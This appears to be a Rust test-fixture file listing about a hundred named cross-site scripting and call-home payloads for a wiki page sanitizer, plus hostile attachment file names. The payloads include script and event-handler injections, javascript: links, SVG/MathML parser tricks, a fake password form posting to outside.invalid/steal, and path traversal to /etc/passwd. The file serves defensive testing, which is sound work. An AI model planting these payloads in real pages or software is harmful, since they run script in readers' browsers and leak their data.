//! Ways in which a page of a wiki could try to run a script in a reader's browser or to call home. Each calls `alert`,
//! or asks `outside.invalid` for something.

/// Name and body, in storage format as far as an attacker keeps to it.
pub(crate) const ATTACKS: &[(&str, &str)] = &[
    // Scripts by name.
    ("script element", "<script>alert(1)</script>"),
    (
        "script from outside",
        "<script src='http://outside.invalid/x.js'></script>",
    ),
    ("script in mixed case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script with a slash", "<script/x>alert(1)</script>"),
    (
        "script inside script",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
    ),
    ("unclosed script", "<p>text</p><script>alert(1)"),
    ("script in CDATA", "<![CDATA[<script>alert(1)</script>]]>"),
    (
        "script behind a null",
        "<scr\u{fffd}ipt>alert(1)</script><script\u{c}>alert(1)</script>",
    ),
    ("module script", "<script type='module'>alert(1)</script>"),
    (
        "noscript trick",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></p></noscript>",
    ),
    // Event handlers.
    ("img onerror", "<img src='x' onerror='alert(1)'/>"),
    (
        "img onload",
        "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload='alert(1)'/>",
    ),
    ("handler without quotes", "<img src=x onerror=alert(1)>"),
    ("handler behind a slash", "<img/src='x'/onerror='alert(1)'>"),
    ("handler in mixed case", "<img src='x' OnErRoR='alert(1)'/>"),
    (
        "handler behind a line break",
        "<img src='x' on\nerror='alert(1)' \nonerror\n=\n'alert(1)'/>",
    ),
    (
        "handler in entities",
        "<img src='x' onerror='&#97;lert(1)'/>",
    ),
    ("body onload", "<body onload='alert(1)'><p>text</p></body>"),
    (
        "details ontoggle",
        "<details open='open' ontoggle='alert(1)'><summary>x</summary></details>",
    ),
    (
        "autofocus onfocus",
        "<input autofocus='autofocus' onfocus='alert(1)'/>",
    ),
    (
        "tabindex onfocus",
        "<div tabindex='0' id='x' onfocus='alert(1)' onmouseover='alert(1)'>x</div>",
    ),
    ("marquee onstart", "<marquee onstart='alert(1)'>x</marquee>"),
    (
        "video onerror",
        "<video><source onerror='alert(1)' src='x'/></video>",
    ),
    (
        "audio onerror",
        "<audio src='x' onerror='alert(1)'></audio>",
    ),
    (
        "style animation handler",
        "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart='alert(1)'>x</b>",
    ),
    (
        "pointer handlers",
        "<p onpointerenter='alert(1)' onclick='alert(1)' onwheel='alert(1)'>x</p>",
    ),
    (
        "handler on a macro",
        "<ac:structured-macro ac:name='info' onclick='alert(1)'><ac:rich-text-body onclick='alert(1)'><p onclick='alert(1)'>x</p></ac:rich-text-body></ac:structured-macro>",
    ),
    // Addresses.
    (
        "javascript link",
        "<p><a href='javascript:alert(1)'>x</a></p>",
    ),
    (
        "javascript link in mixed case",
        "<p><a href='JaVaScRiPt:alert(1)'>x</a></p>",
    ),
    (
        "javascript link with a tab",
        "<p><a href='java&#9;script:alert(1)'>x</a></p>",
    ),
    (
        "javascript link with a line break",
        "<p><a href='java&#10;script:alert(1)'>x</a></p>",
    ),
    (
        "javascript link behind a control",
        "<p><a href='&#1;javascript:alert(1)'>x</a></p>",
    ),
    (
        "javascript link in entities",
        "<p><a href='&#x6A;avascript&colon;alert(1)'>x</a></p>",
    ),
    (
        "javascript link as a comment",
        "<p><a href='javascript://%0aalert(1)'>x</a></p>",
    ),
    ("vbscript link", "<p><a href='vbscript:alert(1)'>x</a></p>"),
    (
        "data link",
        "<p><a href='data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;'>x</a></p>",
    ),
    (
        "javascript in a Confluence link",
        "<p><ac:link><ri:url ri:value='javascript:alert(1)'/><ac:plain-text-link-body><![CDATA[x]]></ac:plain-text-link-body></ac:link></p>",
    ),
    (
        "javascript image",
        "<p><ac:image><ri:url ri:value='javascript:alert(1)'/></ac:image></p>",
    ),
    (
        "outside image",
        "<p><ac:image><ri:url ri:value='http://outside.invalid/a.png'/></ac:image><img src='http://outside.invalid/b.png'/></p>",
    ),
    (
        "protocol-relative image",
        "<p><img src='//outside.invalid/a.png'/></p>",
    ),
    (
        "backslash image",
        "<p><img src='\\\\outside.invalid\\a.png'/><img src='/\\outside.invalid/a.png'/></p>",
    ),
    (
        "srcset",
        "<p><img src='x' srcset='http://outside.invalid/a.png 1x'/></p>",
    ),
    (
        "picture source",
        "<picture><source srcset='http://outside.invalid/a.png'/><img src='x'/></picture>",
    ),
    (
        "video from outside",
        "<video src='http://outside.invalid/a.mp4' poster='http://outside.invalid/a.png' autoplay='autoplay'></video>",
    ),
    (
        "track from outside",
        "<video><track default='default' src='http://outside.invalid/a.vtt'/></video>",
    ),
    (
        "background attribute",
        "<table background='http://outside.invalid/a.png'><tbody><tr><td background='http://outside.invalid/b.png'>x</td></tr></tbody></table>",
    ),
    (
        "link ping",
        "<p><a href='#x' ping='http://outside.invalid/ping'>x</a></p>",
    ),
    (
        "image map",
        "<img usemap='#m' src='x'/><map name='m'><area shape='default' href='javascript:alert(1)'/></map>",
    ),
    // Documents inside the document.
    (
        "iframe srcdoc",
        "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    ),
    (
        "iframe javascript",
        "<iframe src='javascript:parent.alert(1)'></iframe>",
    ),
    (
        "iframe from outside",
        "<iframe src='http://outside.invalid/'></iframe>",
    ),
    (
        "object",
        "<object data='javascript:alert(1)'></object><object data='http://outside.invalid/o'></object>",
    ),
    (
        "embed",
        "<embed src='javascript:alert(1)'/><embed src='http://outside.invalid/e'/>",
    ),
    (
        "template",
        "<template><script>alert(1)</script></template><template shadowrootmode='open'><img src='x' onerror='alert(1)'/></template>",
    ),
    (
        "portal and frameset",
        "<portal src='http://outside.invalid/'></portal><frameset onload='alert(1)'><frame src='javascript:alert(1)'/></frameset>",
    ),
    (
        "iframe macro",
        "<ac:structured-macro ac:name='iframe'><ac:parameter ac:name='src'><ri:url ri:value='http://outside.invalid/'/></ac:parameter></ac:structured-macro>",
    ),
    (
        "html macro",
        "<ac:structured-macro ac:name='html'><ac:plain-text-body><![CDATA[<script>alert(1)</script><img src=x onerror=alert(1)>]]></ac:plain-text-body></ac:structured-macro>",
    ),
    (
        "html-include macro",
        "<ac:structured-macro ac:name='html-include'><ac:parameter ac:name='url'><ri:url ri:value='http://outside.invalid/'/></ac:parameter></ac:structured-macro>",
    ),
    (
        "widget macro",
        "<ac:structured-macro ac:name='widget'><ac:parameter ac:name='url'><ri:url ri:value='http://outside.invalid/v'/></ac:parameter></ac:structured-macro>",
    ),
    (
        "rss macro",
        "<ac:structured-macro ac:name='rss'><ac:parameter ac:name='url'><ri:url ri:value='http://outside.invalid/feed'/></ac:parameter></ac:structured-macro>",
    ),
    // The document itself.
    (
        "meta refresh",
        "<meta http-equiv='refresh' content='0;url=http://outside.invalid/'/>",
    ),
    (
        "meta refresh to a script",
        "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'/>",
    ),
    (
        "base",
        "<base href='http://outside.invalid/'/><p><img src='relative.png'/></p>",
    ),
    (
        "stylesheet",
        "<link rel='stylesheet' href='http://outside.invalid/a.css'/>",
    ),
    (
        "prefetch",
        "<link rel='prefetch' href='http://outside.invalid/a'/><link rel='preload' as='image' href='http://outside.invalid/b'/>",
    ),
    (
        "style import",
        "<style>@import 'http://outside.invalid/a.css';</style>",
    ),
    (
        "style element",
        "<style>body{background:url(http://outside.invalid/a.png)}</style>",
    ),
    (
        "style attribute",
        "<p style='background-image:url(http://outside.invalid/a.png)'>x</p>",
    ),
    (
        "style attribute with an escape",
        "<p style='background:\\75rl(http://outside.invalid/a.png)'>x</p>",
    ),
    (
        "style image-set",
        "<p style='background:image-set(\"http://outside.invalid/a.png\" 1x)'>x</p>",
    ),
    (
        "list style",
        "<ul style='list-style:url(http://outside.invalid/a.png)'><li>x</li></ul>",
    ),
    (
        "cursor",
        "<p style='cursor:url(http://outside.invalid/a.png),auto'>x</p>",
    ),
    ("expression", "<p style='width:expression(alert(1))'>x</p>"),
    (
        "colour macro",
        "<p><ac:structured-macro ac:name='status'><ac:parameter ac:name='colour'>red;background:url(http://outside.invalid/a)</ac:parameter><ac:parameter ac:name='title'>&lt;img src=x onerror=alert(1)&gt;</ac:parameter></ac:structured-macro></p>",
    ),
    (
        "panel colours",
        "<ac:structured-macro ac:name='panel'><ac:parameter ac:name='bgColor'>red' onclick='alert(1)</ac:parameter><ac:parameter ac:name='title'>&lt;script&gt;alert(1)&lt;/script&gt;</ac:parameter><ac:rich-text-body><p>x</p></ac:rich-text-body></ac:structured-macro>",
    ),
    // Forms.
    (
        "form action",
        "<form action='javascript:alert(1)'><input type='submit' value='x'/></form>",
    ),
    (
        "formaction",
        "<form><button formaction='javascript:alert(1)'>x</button><input type='image' src='http://outside.invalid/a.png' formaction='javascript:alert(1)'/></form>",
    ),
    (
        "isindex",
        "<isindex type='image' src='1' onerror='alert(1)'/>",
    ),
    (
        "fake password form",
        "<form action='http://outside.invalid/steal' method='post'><input type='password' name='p'/><button>Open</button></form>",
    ),
    // Drawings and formulas, which parse by other rules.
    ("svg onload", "<svg onload='alert(1)'></svg>"),
    ("svg script", "<svg><script>alert(1)</script></svg>"),
    (
        "svg link",
        "<svg><a xlink:href='javascript:alert(1)'><text x='20' y='20'>x</text></a></svg>",
    ),
    (
        "svg animate",
        "<svg><a><animate attributeName='href' values='javascript:alert(1)'/><text x='20' y='20'>x</text></a></svg>",
    ),
    (
        "svg set",
        "<svg><set attributeName='onmouseover' to='alert(1)'/></svg>",
    ),
    (
        "svg use",
        "<svg><use href='data:image/svg+xml,&lt;svg id=x xmlns=http://www.w3.org/2000/svg&gt;&lt;a/&gt;&lt;/svg&gt;#x'/><image href='http://outside.invalid/a.png'/></svg>",
    ),
    (
        "svg foreignObject",
        "<svg><foreignObject><img src='x' onerror='alert(1)'/></foreignObject></svg>",
    ),
    (
        "svg style",
        "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    ),
    (
        "math link",
        "<math><mtext href='javascript:alert(1)' xlink:href='javascript:alert(1)'>x</mtext></math>",
    ),
    (
        "math style mutation",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'/></mglyph></table></mtext></math>",
    ),
    (
        "math mutation",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    (
        "annotation-xml",
        "<math><annotation-xml encoding='text/html'><img src='x' onerror='alert(1)'/></annotation-xml></math>",
    ),
    // Text that another parser reads differently.
    ("comment", "<!--><img src=x onerror=alert(1)>-->"),
    (
        "comment with a bang",
        "<!-- --!><img src=x onerror=alert(1)> -->",
    ),
    (
        "conditional comment",
        "<!--[if true]><script>alert(1)</script><![endif]-->",
    ),
    (
        "processing instruction",
        "<?xml-stylesheet href='http://outside.invalid/a.css'?><?php <img src=x onerror=alert(1)> ?>",
    ),
    (
        "title element",
        "<title><p title='</title><img src=x onerror=alert(1)>'></p></title>",
    ),
    (
        "textarea",
        "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></p></textarea>",
    ),
    (
        "xmp",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></p></xmp>",
    ),
    ("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    (
        "select",
        "<select><option><style></select><img src=x onerror=alert(1)></style></option></select>",
    ),
    (
        "double encoding",
        "<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; &lt;script&gt;alert(1)&lt;/script&gt;</p>",
    ),
    (
        "attribute break-out",
        "<p title='\"&gt;&lt;img src=x onerror=alert(1)&gt;' class='\"&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>",
    ),
    (
        "code",
        "<ac:structured-macro ac:name='code'><ac:parameter ac:name='language'>\"&gt;&lt;script&gt;alert(1)&lt;/script&gt;</ac:parameter><ac:parameter ac:name='title'>&lt;script&gt;alert(1)&lt;/script&gt;</ac:parameter><ac:plain-text-body><![CDATA[</code></pre><script>alert(1)</script>]]></ac:plain-text-body></ac:structured-macro>",
    ),
    (
        "anchor",
        "<ac:structured-macro ac:name='anchor'><ac:parameter ac:name=''>x' onmouseover='alert(1)</ac:parameter></ac:structured-macro><h2>&lt;img src=x onerror=alert(1)&gt;</h2><ac:structured-macro ac:name='toc'/>",
    ),
    (
        "unknown macro",
        "<ac:structured-macro ac:name='&lt;script&gt;alert(1)&lt;/script&gt;'><ac:rich-text-body><script>alert(1)</script></ac:rich-text-body></ac:structured-macro>",
    ),
    (
        "clobbered names",
        "<img id='body' name='body'/><a id='currentScript' name='getElementById' href='javascript:alert(1)'>x</a><form id='document'><input name='cookie'/></form>",
    ),
    (
        "emoticon",
        "<ac:emoticon ac:name='&lt;img src=x onerror=alert(1)&gt;' ac:emoji-fallback='&lt;script&gt;alert(1)&lt;/script&gt;'/>",
    ),
    (
        "user mention",
        "<ac:link><ri:user ri:userkey='evil'/></ac:link>",
    ),
];

/// Names of attached files that try to break out of where they are shown.
pub(crate) const FILE_NAMES: &[&str] = &[
    "\"><img src=x onerror=alert(1)>.png",
    "' onmouseover='alert(1).png",
    "javascript:alert(1).html",
    "../../../etc/passwd.txt",
    "\r\nSet-Cookie: evil=1.txt",
    "<script>alert(1)</script>.svg",
    "\u{202e}gnp.exe",
];
